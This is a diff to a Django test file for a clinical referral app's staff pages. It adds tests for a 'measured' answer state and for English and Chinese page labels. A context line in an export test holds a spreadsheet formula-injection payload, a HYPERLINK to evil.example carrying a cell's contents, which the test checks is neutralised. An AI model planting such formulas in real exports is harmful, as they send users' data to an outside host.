@@ -341,7 +341,7 @@ def test_staff_mark_an_answer_verified_or_contradicted(staff_a_client, referral_
         == 404
     )
     html = staff_a_client.post(url, {"state": ""}).content.decode()
-    assert "Choose verified or contradicted." in html
+    assert "Choose verified, contradicted or measured." in html
 
 
 # Export
@@ -499,3 +499,49 @@ def test_attack_a_facility_named_as_a_formula_in_the_registry_comes_out_of_the_e
     assert row[4] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click"), @SUM(1+1), China'
     assert row[5:8] == ["'-2+3", "'\t=1+1", "' =1"]
     assert not any(cell and cell[0] in "=+-@\t\r" for line in csv.reader(io.StringIO(body)) for cell in line)
+
+
+@pytest.mark.parametrize(
+    ("language", "title", "not_title"),
+    [
+        ("en", "<title>Referrals – study staff</title>", "Referrals – Referrals"),
+        ("zh-hans", "<title>转介 – 研究人员</title>", "转介 – 转介"),
+    ],
+)
+def test_the_referral_list_s_title_names_the_page_once(staff_a_client, language, title, not_title):
+    page = staff_a_client.get(reverse("staff:list"), HTTP_ACCEPT_LANGUAGE=language).content.decode()
+    assert title in page and not_title not in page
+
+
+@pytest.mark.parametrize(
+    ("language", "label", "hint"),
+    [
+        ("en", "Measured (the patient did not know)", "or as measured where the patient did not know it"),
+        ("zh-hans", "已测量（患者原先不知道）", "请标为“已测量”"),
+    ],
+)
+def test_staff_record_a_value_the_team_measured_where_the_patient_did_not_know_it(
+    staff_a_client, referral_a, language, label, hint
+):
+    """The walkthrough: a walk distance the patient did not know (320 m, measured) could only be saved as verified
+    or contradicted. It is a third choice, saved, shown and written in the history in the reader's language."""
+    page = staff_a_client.get(reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE=language)
+    html = page.content.decode()
+    assert f'value="measured" id="measured-sixmwd_m"><label for="measured-sixmwd_m">{label}</label>' in html
+    assert hint in html
+    url = reverse("staff:check_answer", args=[referral_a.id, "sixmwd_m"])
+    staff_a_client.post(url, {"state": "measured", "note": "320 m"}, HTTP_ACCEPT_LANGUAGE=language)
+    check = AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m")
+    assert (check.state, check.note) == ("measured", "320 m")
+    html = staff_a_client.get(reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE=language)
+    assert f'<span class="tag tag-measured">{label}</span> – 320 m' in html.content.decode()
+    assert staff_a_client.post(url, {"state": "guessed"}).status_code == 200  # not a choice: the form again
+    assert AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m").state == "measured"
+
+
+def test_in_chinese_the_contact_section_and_its_contact_by_field_have_different_labels(staff_a_client, referral_a):
+    html = staff_a_client.get(
+        reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE="zh-hans"
+    ).content.decode()
+    assert "<h2>联系方式</h2>" in html and "<dt>首选联系途径</dt>" in html
+    assert "<dt>联系方式</dt>" not in html
